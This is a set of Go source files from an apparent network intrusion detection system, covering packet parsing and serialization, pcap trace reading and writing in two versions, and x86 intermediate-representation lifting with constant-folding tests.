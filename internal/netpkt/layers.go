// Package netpkt implements the packet model used throughout the NIDS:
// Ethernet, IPv4, TCP and UDP layers with parsing, serialization and
// checksumming, plus a classic libpcap-format trace reader/writer.
//
// It replaces the live capture substrate of the paper's prototype: the
// pipeline consumes a stream of parsed packets and does not care
// whether they come from a NIC, a pcap file, or an in-memory generator.
package netpkt

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
)

// Errors returned by the layer parsers.
var (
	ErrTruncated   = errors.New("netpkt: truncated packet")
	ErrBadVersion  = errors.New("netpkt: not an IPv4 packet")
	ErrBadLength   = errors.New("netpkt: bad length field")
	ErrBadChecksum = errors.New("netpkt: bad checksum")
)

// EtherType values understood by the decoder.
const (
	EtherTypeIPv4 = 0x0800
	EtherTypeARP  = 0x0806
)

// IP protocol numbers.
const (
	ProtoICMP = 1
	ProtoTCP  = 6
	ProtoUDP  = 17
)

// TCP flag bits.
const (
	FlagFIN = 1 << 0
	FlagSYN = 1 << 1
	FlagRST = 1 << 2
	FlagPSH = 1 << 3
	FlagACK = 1 << 4
	FlagURG = 1 << 5
)

// MAC is an Ethernet hardware address.
type MAC [6]byte

func (m MAC) String() string {
	return fmt.Sprintf("%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5])
}

// Packet is a fully parsed frame. Layers that are absent are left at
// their zero values; HasTCP/HasUDP discriminate the transport.
type Packet struct {
	// Link layer.
	SrcMAC, DstMAC MAC
	EtherType      uint16

	// Network layer (IPv4).
	SrcIP, DstIP netip.Addr
	Proto        uint8
	TTL          uint8
	IPID         uint16

	// Transport layer.
	HasTCP  bool
	HasUDP  bool
	SrcPort uint16
	DstPort uint16

	// TCP-specific.
	Seq, Ack uint32
	Flags    uint8
	Window   uint16

	// Application payload.
	Payload []byte

	// Truncated reports that the capture clipped the packet short of
	// what its length fields promise (snaplen cuts): Payload holds the
	// captured prefix only. Set for UDP, where a prefix is still
	// analyzable; clipped TCP segments are rejected at parse instead
	// because a short segment would corrupt stream reassembly.
	Truncated bool

	// Timestamp in microseconds since the trace epoch.
	TimestampUS uint64

	// Pooling state (see PacketPool): the owning pool, the pooled
	// backing buffer Payload aliases, and the reference count. All
	// zero for packets built by hand, which makes Retain/Release
	// no-ops for them.
	pool *PacketPool
	buf  *[]byte
	refs int32
}

// FlowKey identifies one direction of a transport flow.
type FlowKey struct {
	SrcIP   netip.Addr
	DstIP   netip.Addr
	SrcPort uint16
	DstPort uint16
	Proto   uint8
}

// Flow returns the packet's directional flow key.
func (p *Packet) Flow() FlowKey {
	return FlowKey{SrcIP: p.SrcIP, DstIP: p.DstIP, SrcPort: p.SrcPort, DstPort: p.DstPort, Proto: p.Proto}
}

// Reverse returns the opposite direction's key.
func (k FlowKey) Reverse() FlowKey {
	return FlowKey{SrcIP: k.DstIP, DstIP: k.SrcIP, SrcPort: k.DstPort, DstPort: k.SrcPort, Proto: k.Proto}
}

// Canonical returns the direction-independent form of the key: the
// endpoint that sorts lower (by address, then port) becomes the
// source, so both directions of one conversation map to the same
// value. Shard dispatch for datagram flows keys on this — a request
// and its reply must land on the same shard.
func (k FlowKey) Canonical() FlowKey {
	if c := k.SrcIP.Compare(k.DstIP); c > 0 || (c == 0 && k.SrcPort > k.DstPort) {
		return k.Reverse()
	}
	return k
}

func (k FlowKey) String() string {
	return fmt.Sprintf("%s:%d->%s:%d/%d", k.SrcIP, k.SrcPort, k.DstIP, k.DstPort, k.Proto)
}

// checksum computes the ones-complement internet checksum over b,
// seeded with sum (for pseudo-headers).
func checksum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// pseudoHeaderSum computes the TCP/UDP pseudo-header partial sum.
func pseudoHeaderSum(src, dst netip.Addr, proto uint8, length int) uint32 {
	s4 := src.As4()
	d4 := dst.As4()
	var sum uint32
	sum += uint32(s4[0])<<8 | uint32(s4[1])
	sum += uint32(s4[2])<<8 | uint32(s4[3])
	sum += uint32(d4[0])<<8 | uint32(d4[1])
	sum += uint32(d4[2])<<8 | uint32(d4[3])
	sum += uint32(proto)
	sum += uint32(length)
	return sum
}

// Serialize renders the packet as an Ethernet frame with correct IPv4
// and transport checksums.
func (p *Packet) Serialize() []byte {
	transLen := 0
	switch {
	case p.HasTCP:
		transLen = 20 + len(p.Payload)
	case p.HasUDP:
		transLen = 8 + len(p.Payload)
	default:
		transLen = len(p.Payload)
	}
	ipLen := 20 + transLen
	buf := make([]byte, 14+ipLen)

	// Ethernet.
	copy(buf[0:6], p.DstMAC[:])
	copy(buf[6:12], p.SrcMAC[:])
	et := p.EtherType
	if et == 0 {
		et = EtherTypeIPv4
	}
	binary.BigEndian.PutUint16(buf[12:14], et)

	// IPv4.
	ip := buf[14:]
	ip[0] = 0x45 // version 4, IHL 5
	binary.BigEndian.PutUint16(ip[2:4], uint16(ipLen))
	binary.BigEndian.PutUint16(ip[4:6], p.IPID)
	ttl := p.TTL
	if ttl == 0 {
		ttl = 64
	}
	ip[8] = ttl
	ip[9] = p.Proto
	src4 := p.SrcIP.As4()
	dst4 := p.DstIP.As4()
	copy(ip[12:16], src4[:])
	copy(ip[16:20], dst4[:])
	binary.BigEndian.PutUint16(ip[10:12], checksum(ip[:20], 0))

	trans := ip[20:]
	switch {
	case p.HasTCP:
		binary.BigEndian.PutUint16(trans[0:2], p.SrcPort)
		binary.BigEndian.PutUint16(trans[2:4], p.DstPort)
		binary.BigEndian.PutUint32(trans[4:8], p.Seq)
		binary.BigEndian.PutUint32(trans[8:12], p.Ack)
		trans[12] = 5 << 4 // data offset
		trans[13] = p.Flags
		win := p.Window
		if win == 0 {
			win = 65535
		}
		binary.BigEndian.PutUint16(trans[14:16], win)
		copy(trans[20:], p.Payload)
		sum := pseudoHeaderSum(p.SrcIP, p.DstIP, ProtoTCP, transLen)
		binary.BigEndian.PutUint16(trans[16:18], checksum(trans[:transLen], sum))
	case p.HasUDP:
		binary.BigEndian.PutUint16(trans[0:2], p.SrcPort)
		binary.BigEndian.PutUint16(trans[2:4], p.DstPort)
		binary.BigEndian.PutUint16(trans[4:6], uint16(transLen))
		copy(trans[8:], p.Payload)
		sum := pseudoHeaderSum(p.SrcIP, p.DstIP, ProtoUDP, transLen)
		binary.BigEndian.PutUint16(trans[6:8], checksum(trans[:transLen], sum))
	default:
		copy(trans, p.Payload)
	}
	return buf
}

// Parse decodes an Ethernet frame into a Packet. Unknown EtherTypes
// and non-IPv4 packets return ErrBadVersion; transports other than
// TCP/UDP are returned with the raw IP payload.
func Parse(frame []byte) (*Packet, error) {
	p := &Packet{}
	if err := parseInto(p, frame); err != nil {
		return nil, err
	}
	return p, nil
}

// parseInto is Parse decoding into caller-provided (typically pooled)
// storage. Layer fields are overwritten; pooling state is preserved.
func parseInto(p *Packet, frame []byte) error {
	if len(frame) < 14 {
		return ErrTruncated
	}
	copy(p.DstMAC[:], frame[0:6])
	copy(p.SrcMAC[:], frame[6:12])
	p.EtherType = binary.BigEndian.Uint16(frame[12:14])
	if p.EtherType != EtherTypeIPv4 {
		return ErrBadVersion
	}
	ip := frame[14:]
	if len(ip) < 20 {
		return ErrTruncated
	}
	if ip[0]>>4 != 4 {
		return ErrBadVersion
	}
	ihl := int(ip[0]&0xf) * 4
	if ihl < 20 || len(ip) < ihl {
		return ErrBadLength
	}
	totalLen := int(binary.BigEndian.Uint16(ip[2:4]))
	if totalLen < ihl {
		return ErrBadLength
	}
	p.Truncated = false
	if totalLen > len(ip) {
		// The capture clipped the packet (snaplen) short of what the
		// IP header promises. A UDP datagram has no framing below the
		// transport header, so the captured prefix is still worth
		// delivering; for anything else a short packet would corrupt
		// downstream reassembly, so keep the hard reject.
		if ip[9] != ProtoUDP {
			return ErrBadLength
		}
		totalLen = len(ip)
		p.Truncated = true
	}
	p.IPID = binary.BigEndian.Uint16(ip[4:6])
	p.TTL = ip[8]
	p.Proto = ip[9]
	var src4, dst4 [4]byte
	copy(src4[:], ip[12:16])
	copy(dst4[:], ip[16:20])
	p.SrcIP = netip.AddrFrom4(src4)
	p.DstIP = netip.AddrFrom4(dst4)

	trans := ip[ihl:totalLen]
	switch p.Proto {
	case ProtoTCP:
		if len(trans) < 20 {
			return ErrTruncated
		}
		p.HasTCP = true
		p.SrcPort = binary.BigEndian.Uint16(trans[0:2])
		p.DstPort = binary.BigEndian.Uint16(trans[2:4])
		p.Seq = binary.BigEndian.Uint32(trans[4:8])
		p.Ack = binary.BigEndian.Uint32(trans[8:12])
		dataOff := int(trans[12]>>4) * 4
		if dataOff < 20 || dataOff > len(trans) {
			return ErrBadLength
		}
		p.Flags = trans[13]
		p.Window = binary.BigEndian.Uint16(trans[14:16])
		p.Payload = trans[dataOff:]
	case ProtoUDP:
		if len(trans) < 8 {
			return ErrTruncated
		}
		p.HasUDP = true
		p.SrcPort = binary.BigEndian.Uint16(trans[0:2])
		p.DstPort = binary.BigEndian.Uint16(trans[2:4])
		udpLen := int(binary.BigEndian.Uint16(trans[4:6]))
		if udpLen < 8 {
			return ErrBadLength
		}
		if udpLen > len(trans) {
			// Length field promises more bytes than were captured:
			// deliver the prefix, flagged, instead of dropping the
			// whole datagram.
			udpLen = len(trans)
			p.Truncated = true
		}
		p.Payload = trans[8:udpLen]
	default:
		p.Payload = trans
	}
	return nil
}

// VerifyChecksums recomputes the IPv4 header checksum and the
// transport checksum of a serialized frame, reporting whether both are
// valid. Used by tests and trace validation.
func VerifyChecksums(frame []byte) error {
	if len(frame) < 34 {
		return ErrTruncated
	}
	ip := frame[14:]
	ihl := int(ip[0]&0xf) * 4
	if checksum(ip[:ihl], 0) != 0 {
		return fmt.Errorf("%w: ip header", ErrBadChecksum)
	}
	totalLen := int(binary.BigEndian.Uint16(ip[2:4]))
	if totalLen > len(ip) {
		return ErrBadLength
	}
	proto := ip[9]
	if proto != ProtoTCP && proto != ProtoUDP {
		return nil
	}
	var src4, dst4 [4]byte
	copy(src4[:], ip[12:16])
	copy(dst4[:], ip[16:20])
	trans := ip[ihl:totalLen]
	sum := pseudoHeaderSum(netip.AddrFrom4(src4), netip.AddrFrom4(dst4), proto, len(trans))
	if checksum(trans, sum) != 0 {
		return fmt.Errorf("%w: transport", ErrBadChecksum)
	}
	return nil
}
