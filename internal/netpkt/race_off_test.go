//go:build !race

package netpkt

const raceEnabled = false
