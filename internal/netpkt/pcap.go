package netpkt

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// Classic libpcap file format (the format the paper's traces were
// stored in): a 24-byte global header followed by per-packet records.
const (
	pcapMagic        = 0xa1b2c3d4
	pcapMagicSwapped = 0xd4c3b2a1
	pcapVersionMajor = 2
	pcapVersionMinor = 4
	linkTypeEthernet = 1
	maxSnapLen       = 262144
)

// ErrBadPcap is returned for malformed trace files.
var ErrBadPcap = errors.New("netpkt: malformed pcap")

// PcapWriter streams packets into classic pcap format.
type PcapWriter struct {
	w     io.Writer
	count int
}

// NewPcapWriter writes the global header and returns a writer.
func NewPcapWriter(w io.Writer) (*PcapWriter, error) {
	hdr := make([]byte, 24)
	binary.LittleEndian.PutUint32(hdr[0:4], pcapMagic)
	binary.LittleEndian.PutUint16(hdr[4:6], pcapVersionMajor)
	binary.LittleEndian.PutUint16(hdr[6:8], pcapVersionMinor)
	// thiszone=0, sigfigs=0
	binary.LittleEndian.PutUint32(hdr[16:20], maxSnapLen)
	binary.LittleEndian.PutUint32(hdr[20:24], linkTypeEthernet)
	if _, err := w.Write(hdr); err != nil {
		return nil, err
	}
	return &PcapWriter{w: w}, nil
}

// WriteFrame appends one raw Ethernet frame with the given timestamp
// (microseconds since the epoch).
func (pw *PcapWriter) WriteFrame(frame []byte, tsUS uint64) error {
	rec := make([]byte, 16)
	binary.LittleEndian.PutUint32(rec[0:4], uint32(tsUS/1e6))
	binary.LittleEndian.PutUint32(rec[4:8], uint32(tsUS%1e6))
	binary.LittleEndian.PutUint32(rec[8:12], uint32(len(frame)))
	binary.LittleEndian.PutUint32(rec[12:16], uint32(len(frame)))
	if _, err := pw.w.Write(rec); err != nil {
		return err
	}
	_, err := pw.w.Write(frame)
	if err == nil {
		pw.count++
	}
	return err
}

// WritePacket serializes and appends a parsed packet.
func (pw *PcapWriter) WritePacket(p *Packet) error {
	return pw.WriteFrame(p.Serialize(), p.TimestampUS)
}

// Count returns the number of packets written.
func (pw *PcapWriter) Count() int { return pw.count }

// PcapReader streams packets out of a classic pcap file.
type PcapReader struct {
	r       io.Reader
	swapped bool
	link    uint32
}

// NewPcapReader validates the global header.
func NewPcapReader(r io.Reader) (*PcapReader, error) {
	hdr := make([]byte, 24)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrBadPcap, err)
	}
	magic := binary.LittleEndian.Uint32(hdr[0:4])
	pr := &PcapReader{r: r}
	switch magic {
	case pcapMagic:
	case pcapMagicSwapped:
		pr.swapped = true
	default:
		return nil, fmt.Errorf("%w: bad magic %#x", ErrBadPcap, magic)
	}
	pr.link = pr.u32(hdr[20:24])
	if pr.link != linkTypeEthernet {
		return nil, fmt.Errorf("%w: unsupported link type %d", ErrBadPcap, pr.link)
	}
	return pr, nil
}

func (pr *PcapReader) u32(b []byte) uint32 {
	if pr.swapped {
		return binary.BigEndian.Uint32(b)
	}
	return binary.LittleEndian.Uint32(b)
}

// NextFrame returns the next raw frame and its timestamp, or io.EOF.
func (pr *PcapReader) NextFrame() ([]byte, uint64, error) {
	rec := make([]byte, 16)
	if _, err := io.ReadFull(pr.r, rec); err != nil {
		if err == io.ErrUnexpectedEOF {
			return nil, 0, fmt.Errorf("%w: truncated record header", ErrBadPcap)
		}
		return nil, 0, err
	}
	sec := pr.u32(rec[0:4])
	usec := pr.u32(rec[4:8])
	capLen := pr.u32(rec[8:12])
	if capLen > maxSnapLen {
		return nil, 0, fmt.Errorf("%w: capture length %d too large", ErrBadPcap, capLen)
	}
	frame := make([]byte, capLen)
	if _, err := io.ReadFull(pr.r, frame); err != nil {
		return nil, 0, fmt.Errorf("%w: truncated frame", ErrBadPcap)
	}
	return frame, uint64(sec)*1e6 + uint64(usec), nil
}

// NextPacket parses the next frame; unparseable frames are skipped
// (counted in *skipped if non-nil) so a damaged trace does not stop
// analysis.
func (pr *PcapReader) NextPacket(skipped *int) (*Packet, error) {
	for {
		frame, ts, err := pr.NextFrame()
		if err != nil {
			return nil, err
		}
		p, perr := Parse(frame)
		if perr != nil {
			if skipped != nil {
				*skipped++
			}
			continue
		}
		p.TimestampUS = ts
		return p, nil
	}
}

// ReadAll drains a reader into a packet slice.
func ReadAll(r io.Reader) ([]*Packet, error) {
	pr, err := NewPcapReader(r)
	if err != nil {
		return nil, err
	}
	var out []*Packet
	for {
		p, err := pr.NextPacket(nil)
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		out = append(out, p)
	}
}
