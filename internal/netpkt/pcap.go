package netpkt

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// Classic libpcap file format (the format the paper's traces were
// stored in): a 24-byte global header followed by per-packet records.
const (
	pcapMagic         = 0xa1b2c3d4
	pcapMagicSwapped  = 0xd4c3b2a1
	pcapMagicNano     = 0xa1b23c4d // nanosecond-resolution variant
	pcapMagicNanoSwap = 0x4d3cb2a1
	pcapVersionMajor  = 2
	pcapVersionMinor  = 4
	linkTypeEthernet  = 1
	maxSnapLen        = 262144
)

// ErrBadPcap is returned for malformed trace files.
var ErrBadPcap = errors.New("netpkt: malformed pcap")

// PcapWriter streams packets into classic pcap format.
type PcapWriter struct {
	w     io.Writer
	count int
}

// NewPcapWriter writes the global header and returns a writer.
func NewPcapWriter(w io.Writer) (*PcapWriter, error) {
	hdr := make([]byte, 24)
	binary.LittleEndian.PutUint32(hdr[0:4], pcapMagic)
	binary.LittleEndian.PutUint16(hdr[4:6], pcapVersionMajor)
	binary.LittleEndian.PutUint16(hdr[6:8], pcapVersionMinor)
	// thiszone=0, sigfigs=0
	binary.LittleEndian.PutUint32(hdr[16:20], maxSnapLen)
	binary.LittleEndian.PutUint32(hdr[20:24], linkTypeEthernet)
	if _, err := w.Write(hdr); err != nil {
		return nil, err
	}
	return &PcapWriter{w: w}, nil
}

// WriteFrame appends one raw Ethernet frame with the given timestamp
// (microseconds since the epoch).
func (pw *PcapWriter) WriteFrame(frame []byte, tsUS uint64) error {
	rec := make([]byte, 16)
	binary.LittleEndian.PutUint32(rec[0:4], uint32(tsUS/1e6))
	binary.LittleEndian.PutUint32(rec[4:8], uint32(tsUS%1e6))
	binary.LittleEndian.PutUint32(rec[8:12], uint32(len(frame)))
	binary.LittleEndian.PutUint32(rec[12:16], uint32(len(frame)))
	if _, err := pw.w.Write(rec); err != nil {
		return err
	}
	_, err := pw.w.Write(frame)
	if err == nil {
		pw.count++
	}
	return err
}

// WritePacket serializes and appends a parsed packet.
func (pw *PcapWriter) WritePacket(p *Packet) error {
	return pw.WriteFrame(p.Serialize(), p.TimestampUS)
}

// Count returns the number of packets written.
func (pw *PcapWriter) Count() int { return pw.count }

// PcapReader streams packets out of a classic pcap file
// (microsecond- or nanosecond-resolution magic, either endianness).
type PcapReader struct {
	r       io.Reader
	swapped bool
	nano    bool // timestamps are in nanoseconds (converted to µs)
	link    uint32

	// Record-header and frame buffers, reused across NextFrame calls
	// so reading a trace does not allocate two slices per packet.
	rec   [16]byte
	frame []byte

	// pool, when set, recycles packets and payload buffers through
	// NextPacket (see SetPool).
	pool *PacketPool
}

// NewPcapReader validates the global header.
func NewPcapReader(r io.Reader) (*PcapReader, error) {
	hdr := make([]byte, 24)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, fmt.Errorf("%w: %v", ErrBadPcap, err)
	}
	magic := binary.LittleEndian.Uint32(hdr[0:4])
	pr := &PcapReader{r: r}
	switch magic {
	case pcapMagic:
	case pcapMagicSwapped:
		pr.swapped = true
	case pcapMagicNano:
		pr.nano = true
	case pcapMagicNanoSwap:
		pr.swapped = true
		pr.nano = true
	default:
		return nil, fmt.Errorf("%w: bad magic %#x", ErrBadPcap, magic)
	}
	pr.link = pr.u32(hdr[20:24])
	if pr.link != linkTypeEthernet {
		return nil, fmt.Errorf("%w: unsupported link type %d", ErrBadPcap, pr.link)
	}
	return pr, nil
}

func (pr *PcapReader) u32(b []byte) uint32 {
	if pr.swapped {
		return binary.BigEndian.Uint32(b)
	}
	return binary.LittleEndian.Uint32(b)
}

// NextFrame returns the next raw frame and its timestamp
// (microseconds), or io.EOF. The returned slice aliases an internal
// buffer that is overwritten by the next NextFrame call; callers that
// retain the frame must copy it.
func (pr *PcapReader) NextFrame() ([]byte, uint64, error) {
	if _, err := io.ReadFull(pr.r, pr.rec[:]); err != nil {
		if err == io.ErrUnexpectedEOF {
			return nil, 0, fmt.Errorf("%w: truncated record header", ErrBadPcap)
		}
		return nil, 0, err
	}
	sec := pr.u32(pr.rec[0:4])
	frac := pr.u32(pr.rec[4:8])
	capLen := pr.u32(pr.rec[8:12])
	if capLen > maxSnapLen {
		return nil, 0, fmt.Errorf("%w: capture length %d too large", ErrBadPcap, capLen)
	}
	if uint32(cap(pr.frame)) < capLen {
		pr.frame = make([]byte, capLen)
	}
	frame := pr.frame[:capLen]
	if _, err := io.ReadFull(pr.r, frame); err != nil {
		return nil, 0, fmt.Errorf("%w: truncated frame", ErrBadPcap)
	}
	ts := uint64(sec)*1e6 + uint64(frac)
	if pr.nano {
		ts = uint64(sec)*1e6 + uint64(frac)/1000
	}
	return frame, ts, nil
}

// SetPool attaches a packet pool: subsequent NextPacket calls draw
// their packet structs and payload buffers from it instead of
// allocating, and the consumer returns them with Packet.Release once
// done. Without a pool the historical contract holds — the packet owns
// a freshly allocated payload and never needs releasing.
func (pr *PcapReader) SetPool(pl *PacketPool) { pr.pool = pl }

// NextPacket parses the next frame; unparseable frames are skipped
// (counted in *skipped if non-nil) so a damaged trace does not stop
// analysis. The returned packet owns its payload and stays valid
// across subsequent reads; if a pool is attached (SetPool), it stays
// valid until released.
func (pr *PcapReader) NextPacket(skipped *int) (*Packet, error) {
	return nextPacket(pr, skipped, pr.pool)
}

// nextPacket implements NextPacket over any frame source, detaching
// the parsed payload from the source's reused frame buffer — into a
// pooled buffer when a pool is supplied, a fresh allocation otherwise.
func nextPacket(fr interface {
	NextFrame() ([]byte, uint64, error)
}, skipped *int, pool *PacketPool) (*Packet, error) {
	for {
		frame, ts, err := fr.NextFrame()
		if err != nil {
			return nil, err
		}
		var p *Packet
		var perr error
		if pool != nil {
			p = pool.Get()
			if perr = parseInto(p, frame); perr == nil && len(p.Payload) > 0 {
				pool.attachPayload(p, p.Payload)
			}
			if perr != nil {
				p.Release()
			}
		} else {
			p, perr = Parse(frame)
			if perr == nil && len(p.Payload) > 0 {
				// Parse subslices the frame; copy the payload so the
				// packet survives the next read (and any asynchronous
				// analysis).
				p.Payload = append([]byte(nil), p.Payload...)
			}
		}
		if perr != nil {
			if skipped != nil {
				*skipped++
			}
			continue
		}
		p.TimestampUS = ts
		return p, nil
	}
}

// ReadAll drains a reader into a packet slice.
func ReadAll(r io.Reader) ([]*Packet, error) {
	pr, err := NewPcapReader(r)
	if err != nil {
		return nil, err
	}
	var out []*Packet
	for {
		p, err := pr.NextPacket(nil)
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		out = append(out, p)
	}
}
