package ir

import (
	"testing"

	"semnids/internal/x86"
)

func TestCdqFolding(t *testing.T) {
	// Positive EAX -> EDX = 0 (the common edx-zeroing idiom).
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EAX, 5).I(x86.CDQ).Nop()
	})
	v, known := last(p).ConstBefore(x86.EDX)
	if !known || v != 0 {
		t.Errorf("EDX = (%#x,%v), want (0,true)", v, known)
	}
	// Negative EAX -> EDX = -1.
	p = liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EAX, -5).I(x86.CDQ).Nop()
	})
	v, known = last(p).ConstBefore(x86.EDX)
	if !known || v != 0xffffffff {
		t.Errorf("EDX = (%#x,%v), want (0xffffffff,true)", v, known)
	}
}

func TestLeaFolding(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EBX, 0x100).
			MovRI(x86.ECX, 4).
			I(x86.LEA, x86.RegOp(x86.EAX),
				x86.MemOp(x86.MemRef{Base: x86.EBX, Index: x86.ECX, Scale: 4, Disp: 8})).
			Nop()
	})
	v, known := last(p).ConstBefore(x86.EAX)
	if !known || v != 0x100+16+8 {
		t.Errorf("EAX = (%#x,%v), want 0x118", v, known)
	}
}

func TestStringOpsClobber(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.ESI, 0x10).
			MovRI(x86.EAX, 0x22).
			I(x86.LODSB).
			Nop()
	})
	n := last(p)
	if _, known := n.ConstBefore(x86.ESI); known {
		t.Error("ESI should be unknown after lodsb")
	}
	if _, known := n.ConstBefore(x86.AL); known {
		t.Error("AL should be unknown after lodsb")
	}
	// The untouched high bytes of EAX remain known.
	if v, known := n.ConstBefore(x86.AH); !known || v != 0 {
		t.Errorf("AH = (%#x,%v), want (0,true)", v, known)
	}
}

func TestPushadPopadInvalidates(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EBX, 7).
			I(x86.PUSHAD).
			I(x86.POPAD).
			Nop()
	})
	// POPAD conservatively invalidates everything (the symbolic stack
	// does not model the 8-slot block).
	if _, known := last(p).ConstBefore(x86.EBX); known {
		t.Error("EBX should be unknown after pushad/popad round trip")
	}
}

func TestStackBreakOnEspArithmetic(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.PushI(0x42).
			SubRI(x86.ESP, 8). // breaks the symbolic stack model
			PopR(x86.EAX).
			Nop()
	})
	if _, known := last(p).ConstBefore(x86.EAX); known {
		t.Error("EAX should be unknown after esp arithmetic broke the stack")
	}
}

func TestStackDepthCap(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		for i := 0; i < maxTrackedStack+8; i++ {
			a.PushI(int64(i))
		}
		a.PopR(x86.EAX).Nop()
	})
	if _, known := last(p).ConstBefore(x86.EAX); known {
		t.Error("stack deeper than the cap should stop tracking")
	}
}

func TestMovzxFolding(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EBX, 0x1234).
			I(x86.MOVZX, x86.RegOp(x86.EAX), x86.RegOp(x86.BL)).
			Nop()
	})
	v, known := last(p).ConstBefore(x86.EAX)
	if !known || v != 0x34 {
		t.Errorf("EAX = (%#x,%v), want (0x34,true)", v, known)
	}
}

func TestShiftFolding(t *testing.T) {
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EAX, 1).
			I(x86.SHL, x86.RegOp(x86.EAX), x86.ImmOp(4)).
			Nop()
	})
	if v, known := last(p).ConstBefore(x86.EAX); !known || v != 16 {
		t.Errorf("EAX = (%#x,%v), want 16", v, known)
	}
	// Rotate folds only at 32-bit width.
	p = liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EAX, 0x80000001).
			I(x86.ROL, x86.RegOp(x86.EAX), x86.ImmOp(1)).
			Nop()
	})
	if v, known := last(p).ConstBefore(x86.EAX); !known || v != 3 {
		t.Errorf("rol EAX = (%#x,%v), want 3", v, known)
	}
}

func TestLoopDecrementsCounter(t *testing.T) {
	// The loop instruction's decrement is modeled, so a known counter
	// stays known across an iteration boundary in threaded order.
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.ECX, 3).
			Label("top").
			Nop().
			Loop("top").
			Nop()
	})
	// After one pass over the loop instruction the counter is 2.
	if v, known := last(p).ConstBefore(x86.ECX); !known || v != 2 {
		t.Errorf("ECX = (%#x,%v), want 2", v, known)
	}
}

func TestNewOpcodeDefs(t *testing.T) {
	// cmpxchg clobbers EAX; xadd defs both operands.
	p := liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EAX, 1).
			MovRI(x86.EBX, 2).
			MovRI(x86.ECX, 3).
			I(x86.CMPXCHG, x86.RegOp(x86.EBX), x86.RegOp(x86.ECX)).
			Nop()
	})
	n := last(p)
	if _, known := n.ConstBefore(x86.EAX); known {
		t.Error("EAX should be unknown after cmpxchg")
	}
	if _, known := n.ConstBefore(x86.EBX); known {
		t.Error("EBX should be unknown after cmpxchg")
	}

	p = liftAsm(t, func(a *x86.Asm) {
		a.MovRI(x86.EBX, 2).
			MovRI(x86.ECX, 3).
			I(x86.XADD, x86.RegOp(x86.EBX), x86.RegOp(x86.ECX)).
			Nop()
	})
	n = last(p)
	if _, known := n.ConstBefore(x86.EBX); known {
		t.Error("EBX should be unknown after xadd")
	}
	if _, known := n.ConstBefore(x86.ECX); known {
		t.Error("ECX should be unknown after xadd")
	}
}
