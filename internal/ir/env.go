// Package ir lifts decoded x86 instructions into an analyzed program:
// instructions in recovered execution order, annotated with the
// abstract machine state before each instruction (known constant
// register values, a symbolic stack) and def/use register sets.
//
// This is the "intermediate representation generator" stage of the
// paper's NIDS (Section 4, component (d)). The constant folding
// implemented here is what makes the template matcher semantic rather
// than syntactic: `mov ebx, 31h; add ebx, 64h; xor [eax], ebx` exposes
// the same decryption key 0x95 as `xor byte ptr [eax], 95h`.
package ir

import (
	"semnids/internal/x86"
)

// regVal tracks partially known register contents: bit i of mask set
// means byte i of val is known. This makes idioms like
// `xor eax, eax; mov al, 0xb` resolve EAX to the constant 11.
type regVal struct {
	val  uint32
	mask uint32
}

func (rv regVal) knownAll(width, off uint) bool {
	m := widthMask(width) << (8 * off)
	return rv.mask&m == m
}

func (rv regVal) get(width, off uint) uint32 {
	return (rv.val >> (8 * off)) & widthMask(width)
}

func (rv *regVal) set(width, off uint, v uint32, known bool) {
	m := widthMask(width) << (8 * off)
	rv.val = rv.val&^m | (v<<(8*off))&m
	if known {
		rv.mask |= m
	} else {
		rv.mask &^= m
	}
}

func widthMask(width uint) uint32 {
	switch width {
	case 1:
		return 0xff
	case 2:
		return 0xffff
	default:
		return 0xffffffff
	}
}

// stackVal is one tracked push.
type stackVal struct {
	val   uint32
	known bool
}

// Env is the abstract machine state at a program point: per-register
// constant knowledge plus a bounded symbolic stack.
type Env struct {
	regs  [8]regVal // indexed by x86 family register number (EAX..EDI)
	stack []stackVal
	// stackOK is false once ESP has been manipulated in a way the
	// symbolic stack does not model (mov esp, pushad, add esp...).
	stackOK bool
}

// NewEnv returns the initial (nothing known) state.
func NewEnv() Env {
	return Env{stackOK: true}
}

// clone returns a deep copy (the stack slice is shared copy-on-write by
// always appending through cloneStack).
func (e Env) clone() Env {
	c := e
	c.stack = append([]stackVal(nil), e.stack...)
	return c
}

// snapshot returns a copy suitable for storing as a Node's Pre state:
// register knowledge is copied, but the symbolic stack is dropped. A
// Pre state is only ever queried through Get (register constants); the
// stack is consulted exclusively on the live state during evaluation,
// so copying it per instruction would be pure allocation overhead.
func (e Env) snapshot() Env {
	c := e
	c.stack = nil
	return c
}

// regGeom returns the byte width and offset of r within its family.
func regGeom(r x86.Reg) (width, off uint) {
	switch {
	case r.Size() == 4:
		return 4, 0
	case r.Size() == 2:
		return 2, 0
	case r.IsHigh8():
		return 1, 1
	default:
		return 1, 0
	}
}

// Get returns the value of register r if fully known.
func (e *Env) Get(r x86.Reg) (uint32, bool) {
	if r == x86.RegNone {
		return 0, false
	}
	fam := r.Family().Num()
	w, off := regGeom(r)
	rv := e.regs[fam]
	if !rv.knownAll(w, off) {
		return 0, false
	}
	return rv.get(w, off), true
}

